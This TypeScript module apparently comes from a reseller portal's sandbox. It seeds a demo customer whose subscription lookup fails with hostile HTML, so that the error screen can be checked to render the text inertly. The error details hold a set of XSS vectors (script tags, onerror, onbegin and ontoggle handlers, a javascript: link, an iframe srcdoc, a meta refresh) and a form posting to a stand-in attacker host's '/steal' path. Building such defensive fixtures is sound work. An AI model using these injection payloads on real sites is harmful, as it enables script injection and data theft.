import type Database from 'better-sqlite3';
import { permissionDenied } from '../../apiError';
import type { PortalProvider } from '../provider';
import { addDemoCustomer, withDemoCustomer } from './demoCustomers';

// A demo customer whose subscription lookup fails with hostile markup in the error's details, as a
// compromised or careless upstream might send: the forbidden screen must show its text and run none
// of it (README's demo accounts, docs/security.md). Kept apart from the seed so the seed stays the
// contract's dataset; added to any sandbox database when it is opened.

export const HOSTILE_DEMO = {
  customerId: 'C0hostile1',
  domain: 'hostile.example',
  admin: 'admin@hostile.example',
} as const;

/** The readable part of the details, which the forbidden screen shows. */
export const HOSTILE_DEMO_TEXT = 'Subscription locked for hostile.example: ask your reseller.';
export const HOSTILE_DEMO_MESSAGE = `The reseller cannot show the subscription of ${HOSTILE_DEMO.domain}.`;
/** Where the payloads would send their requests; nothing answers there (.invalid never resolves). */
export const HOSTILE_DEMO_ORIGIN = 'https://attacker.invalid';
/** Each payload, if it ever ran, would set this window property and open a dialog. */
export const HOSTILE_DEMO_FLAG = '__portalHostile';

const run = (how: string) => `window.${HOSTILE_DEMO_FLAG}='${how}';alert('${how}')`;

export const HOSTILE_DEMO_DETAILS = [
  '<b>Subscription locked</b> for hostile.example: ask your reseller.',
  `<img src=x onerror="${run('img')}">`,
  `<script>${run('script')}</script>`,
  `<a href="javascript:${run('link')}"></a>`,
  `<svg><animate onbegin="${run('svg')}" attributeName="x" dur="1s"/></svg>`,
  `<iframe srcdoc="<script>parent.${HOSTILE_DEMO_FLAG}='iframe'</script>"></iframe>`,
  `<img src="${HOSTILE_DEMO_ORIGIN}/pixel.png">`,
  `<style>@import url(${HOSTILE_DEMO_ORIGIN}/style.css);</style>`,
  `<meta http-equiv="refresh" content="0;url=${HOSTILE_DEMO_ORIGIN}/">`,
  `<form action="${HOSTILE_DEMO_ORIGIN}/steal"><input name="q" autofocus onfocus="${run('focus')}"></form>`,
  `<details open ontoggle="${run('toggle')}"></details>`,
].join('');

/** Adds the demo customer and its admin to a sandbox database (idempotent). */
export function seedHostileDemo(db: Database.Database): void {
  addDemoCustomer(db, HOSTILE_DEMO);
  db.prepare('INSERT OR IGNORE INTO customer_domains (domain, customer_id) VALUES (?, ?)').run(
    HOSTILE_DEMO.domain,
    HOSTILE_DEMO.customerId,
  );
}

/** The provider, with the demo domain a Google account whose subscription lookup fails as above. */
export function withHostileDemo(provider: PortalProvider): PortalProvider {
  return withDemoCustomer(provider, HOSTILE_DEMO, {
    async findWorkspaceSubscription(customerId) {
      if (customerId === HOSTILE_DEMO.customerId) {
        throw permissionDenied(HOSTILE_DEMO_MESSAGE, HOSTILE_DEMO_DETAILS);
      }
      return provider.findWorkspaceSubscription(customerId);
    },
  });
}
